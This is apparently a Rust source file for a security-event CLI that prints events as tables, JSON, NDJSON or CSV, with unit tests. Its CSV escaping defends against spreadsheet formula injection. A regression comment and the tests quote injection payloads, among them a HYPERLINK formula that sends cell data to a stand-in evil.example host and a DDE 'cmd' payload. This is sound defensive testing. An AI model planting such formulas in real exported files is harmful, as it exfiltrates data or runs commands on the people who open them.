//! How client commands print: tables for people, JSON / NDJSON / CSV for scripts.
//!
//! Everything writes to a caller-supplied `Write` so a closed pipe (`vigil query | head`) is an
//! ordinary error the caller can treat as the end, not a panic.

use std::io::{self, Write};

use chrono::{DateTime, SecondsFormat, Utc};
use clap::ValueEnum;
use comfy_table::presets::UTF8_FULL_CONDENSED;
use comfy_table::{Cell, Color, ContentArrangement, Table};
use serde_json::Value;

#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
pub enum OutputFormat {
    /// Aligned columns for a terminal.
    Table,
    /// One JSON document.
    Json,
    /// One JSON object per line.
    Ndjson,
    /// Comma-separated values with a header line.
    Csv,
}

/// Columns of the event CSV; `details` is the compact JSON of the whole object.
const CSV_COLUMNS: [&str; 15] = [
    "time",
    "seq",
    "id",
    "type",
    "severity",
    "actor.id",
    "actor.type",
    "actor.ip",
    "source",
    "action",
    "outcome",
    "resource.type",
    "resource.id",
    "received_at",
    "details",
];

/// Longest one-line summary of `details` in a table cell.
const SUMMARY_CHARS: usize = 60;

/// Which columns an event table shows.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct TableStyle {
    /// Show `seq` (useful when paging; noise in `vigil last`).
    pub seq: bool,
    /// Colour the severity cell by level.
    pub colour: bool,
}

/// Prints events in `format`. `json` is an array; use [`write_json`] for other shapes.
pub fn write_events(
    out: &mut dyn Write,
    events: &[Value],
    format: OutputFormat,
    style: TableStyle,
) -> io::Result<()> {
    match format {
        OutputFormat::Table => {
            if events.is_empty() {
                return writeln!(out, "no events");
            }
            writeln!(out, "{}", event_table(events, style))
        }
        OutputFormat::Json => write_json(out, &Value::Array(events.to_vec())),
        OutputFormat::Ndjson => write_ndjson(out, events),
        OutputFormat::Csv => {
            write_csv_header(out)?;
            write_csv_rows(out, events)
        }
    }
}

pub fn write_json(out: &mut dyn Write, value: &Value) -> io::Result<()> {
    serde_json::to_writer_pretty(&mut *out, value)?;
    writeln!(out)
}

pub fn write_ndjson(out: &mut dyn Write, events: &[Value]) -> io::Result<()> {
    for event in events {
        serde_json::to_writer(&mut *out, event)?;
        writeln!(out)?;
    }
    Ok(())
}

pub fn write_csv_header(out: &mut dyn Write) -> io::Result<()> {
    writeln!(out, "{}", CSV_COLUMNS.join(","))
}

pub fn write_csv_rows(out: &mut dyn Write, events: &[Value]) -> io::Result<()> {
    for event in events {
        let row: Vec<String> = CSV_COLUMNS
            .iter()
            .map(|col| match *col {
                "details" => match event.get("details") {
                    Some(Value::Null) | None => String::new(),
                    Some(d) => d.to_string(),
                },
                path => scalar_text(lookup(event, path)),
            })
            .map(|cell| csv_escape(&cell))
            .collect();
        writeln!(out, "{}", row.join(","))?;
    }
    Ok(())
}

/// A table of events: time, (seq,) severity, type, actor, source, summary.
pub fn event_table(events: &[Value], style: TableStyle) -> Table {
    let mut table = Table::new();
    table
        .load_preset(UTF8_FULL_CONDENSED)
        .set_content_arrangement(ContentArrangement::Dynamic);
    let mut header = vec!["time"];
    if style.seq {
        header.push("seq");
    }
    header.extend(["sev", "type", "actor", "source", "summary"]);
    table.set_header(header);
    for event in events {
        let mut row = vec![Cell::new(display_time(lookup(event, "time")))];
        if style.seq {
            row.push(Cell::new(scalar_text(lookup(event, "seq"))));
        }
        let severity = lookup(event, "severity")
            .and_then(Value::as_u64)
            .unwrap_or(0);
        let mut sev_cell = Cell::new(severity);
        if style.colour
            && let Some(colour) = severity_colour(severity)
        {
            sev_cell = sev_cell.fg(colour);
        }
        row.push(sev_cell);
        row.push(Cell::new(scalar_text(lookup(event, "type"))));
        row.push(Cell::new(actor_text(event)));
        row.push(Cell::new(scalar_text(lookup(event, "source"))));
        row.push(Cell::new(summary(event)));
        table.add_row(row);
    }
    table
}

/// A table of arbitrary rows (keys, users, schemas).
pub fn simple_table(header: &[&str], rows: Vec<Vec<String>>) -> Table {
    let mut table = Table::new();
    table
        .load_preset(UTF8_FULL_CONDENSED)
        .set_content_arrangement(ContentArrangement::Dynamic);
    table.set_header(header.to_vec());
    for row in rows {
        table.add_row(row);
    }
    table
}

/// Colour by level: 9–10 critical (magenta), 7–8 high (red), 4–6 medium (yellow), lower
/// plain.
fn severity_colour(severity: u64) -> Option<Color> {
    match severity {
        9.. => Some(Color::Magenta),
        7..=8 => Some(Color::Red),
        4..=6 => Some(Color::Yellow),
        _ => None,
    }
}

/// A dotted path into a JSON object.
pub fn lookup<'a>(value: &'a Value, path: &str) -> Option<&'a Value> {
    path.split('.').try_fold(value, |v, key| v.get(key))
}

/// A scalar as plain text (strings without quotes); absent and null are empty.
pub fn scalar_text(value: Option<&Value>) -> String {
    match value {
        None | Some(Value::Null) => String::new(),
        Some(Value::String(s)) => s.clone(),
        Some(other) => other.to_string(),
    }
}

/// `2024-05-01 12:00:00.123Z` for an RFC 3339 time; other text as it is.
fn display_time(value: Option<&Value>) -> String {
    let text = scalar_text(value);
    match DateTime::parse_from_rfc3339(&text) {
        Ok(t) => t
            .with_timezone(&Utc)
            .to_rfc3339_opts(SecondsFormat::Millis, true)
            .replacen('T', " ", 1),
        Err(_) => text,
    }
}

/// `u-7 (10.0.0.1)`: the actor's id and, when known, its IP.
fn actor_text(event: &Value) -> String {
    let id = scalar_text(lookup(event, "actor.id"));
    match lookup(event, "actor.ip").map(|ip| scalar_text(Some(ip))) {
        Some(ip) if !ip.is_empty() && !id.is_empty() => format!("{id} ({ip})"),
        Some(ip) if !ip.is_empty() => ip,
        _ => id,
    }
}

/// One line about what happened: the `details` as `key=value` pairs, or else the action,
/// outcome and resource.
pub fn summary(event: &Value) -> String {
    let mut parts = Vec::new();
    match event.get("details") {
        Some(Value::Object(details)) => {
            for (key, value) in details {
                parts.push(format!("{key}={}", scalar_or_json(value)));
            }
        }
        Some(Value::Null) | None => {
            for path in ["action", "outcome"] {
                if let Some(v) = lookup(event, path).filter(|v| !v.is_null()) {
                    parts.push(format!("{path}={}", scalar_or_json(v)));
                }
            }
            let rtype = scalar_text(lookup(event, "resource.type"));
            let rid = scalar_text(lookup(event, "resource.id"));
            if !rtype.is_empty() || !rid.is_empty() {
                parts.push(format!("resource={rtype}/{rid}"));
            }
        }
        Some(other) => parts.push(other.to_string()),
    }
    truncate_chars(&parts.join(" "), SUMMARY_CHARS)
}

fn scalar_or_json(value: &Value) -> String {
    match value {
        Value::String(s) => s.clone(),
        other => other.to_string(),
    }
}

fn truncate_chars(text: &str, max: usize) -> String {
    match text.char_indices().nth(max.saturating_sub(1)) {
        Some((cut, _)) if text.chars().count() > max => format!("{}…", &text[..cut]),
        _ => text.to_owned(),
    }
}

/// One CSV field. A field that a spreadsheet would run as a formula (it starts with `=`, `+`,
/// `-`, `@`, a tab or a carriage return) gets a leading `'`, as OWASP recommends against CSV
/// injection: event fields come from whoever sent the event. Then RFC 4180 quoting: fields
/// holding a comma, quote or line break are quoted, quotes doubled.
pub fn csv_escape(field: &str) -> String {
    let field = if field.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{field}")
    } else {
        field.to_owned()
    };
    if field.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", field.replace('"', "\"\""))
    } else {
        field
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn sample() -> Value {
        json!({
            "id": "e1", "seq": 7, "type": "login.failed", "severity": 8,
            "time": "2024-05-01T12:00:00.123456789Z", "source": "auth",
            "actor": {"id": "u-7", "ip": "10.0.0.1"},
            "details": {"attempt": 3, "reason": "bad, \"password\""},
        })
    }

    #[test]
    fn csv_quotes_what_needs_quoting() {
        assert_eq!(csv_escape("plain"), "plain");
        assert_eq!(csv_escape("a,b"), "\"a,b\"");
        assert_eq!(csv_escape("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(csv_escape("two\nlines"), "\"two\nlines\"");
    }

    /// Regression: fields were written verbatim, so an event whose actor id was
    /// `=HYPERLINK("http://evil.example/?"&A1,"open")` ran as a formula when the CSV was opened
    /// in a spreadsheet. Such fields now start with `'`; RFC 4180 quoting still applies.
    #[test]
    fn csv_neutralises_formulas() {
        assert_eq!(csv_escape("=1+1"), "'=1+1");
        assert_eq!(csv_escape("+1"), "'+1");
        assert_eq!(csv_escape("-1"), "'-1");
        assert_eq!(csv_escape("@SUM(A1)"), "'@SUM(A1)");
        assert_eq!(csv_escape("\tx"), "'\tx");
        assert_eq!(csv_escape("\rx"), "\"'\rx\"");
        assert_eq!(
            csv_escape("=HYPERLINK(\"http://x/\",\"a\")"),
            "\"'=HYPERLINK(\"\"http://x/\"\",\"\"a\"\")\""
        );
        assert_eq!(csv_escape("a=b"), "a=b");
        let mut out = Vec::new();
        let event = json!({"type": "a", "actor": {"id": "=cmd|' /C calc'!A0"}});
        write_csv_rows(&mut out, &[event]).unwrap();
        let row = String::from_utf8(out).unwrap();
        assert!(row.contains(",'=cmd|' /C calc'!A0,"), "{row}");
    }

    #[test]
    fn csv_rows_follow_the_header() {
        let mut out = Vec::new();
        write_events(
            &mut out,
            &[sample()],
            OutputFormat::Csv,
            TableStyle {
                seq: false,
                colour: false,
            },
        )
        .unwrap();
        let text = String::from_utf8(out).unwrap();
        let mut lines = text.lines();
        assert_eq!(lines.next().unwrap().split(',').count(), CSV_COLUMNS.len());
        let row = lines.next().unwrap();
        assert!(
            row.starts_with(
                "2024-05-01T12:00:00.123456789Z,7,e1,login.failed,8,u-7,,10.0.0.1,auth,"
            ),
            "{row}"
        );
        assert!(
            row.ends_with(r#""{""attempt"":3,""reason"":""bad, \""password\""""}""#),
            "{row}"
        );
    }

    #[test]
    fn summary_is_one_bounded_line() {
        assert_eq!(summary(&sample()), "attempt=3 reason=bad, \"password\"");
        let long = json!({"details": {"note": "x".repeat(500)}});
        let s = summary(&long);
        assert_eq!(s.chars().count(), SUMMARY_CHARS);
        assert!(s.ends_with('…'));
        let bare = json!({"action": "delete", "outcome": "success", "resource": {"type": "file", "id": "f1"}});
        assert_eq!(
            summary(&bare),
            "action=delete outcome=success resource=file/f1"
        );
    }

    #[test]
    fn table_shows_the_key_columns() {
        let rendered = event_table(
            &[sample()],
            TableStyle {
                seq: true,
                colour: false,
            },
        )
        .to_string();
        for needle in [
            "2024-05-01 12:00:00.123Z",
            "login.failed",
            "u-7 (10.0.0.1)",
            "auth",
            "attempt=3",
        ] {
            assert!(rendered.contains(needle), "{needle} missing in\n{rendered}");
        }
    }

    #[test]
    fn ndjson_is_one_object_per_line() {
        let mut out = Vec::new();
        write_ndjson(&mut out, &[sample(), json!({"type": "x"})]).unwrap();
        let text = String::from_utf8(out).unwrap();
        let parsed: Vec<Value> = text
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect();
        assert_eq!(parsed.len(), 2);
        assert_eq!(parsed[1]["type"], "x");
    }
}
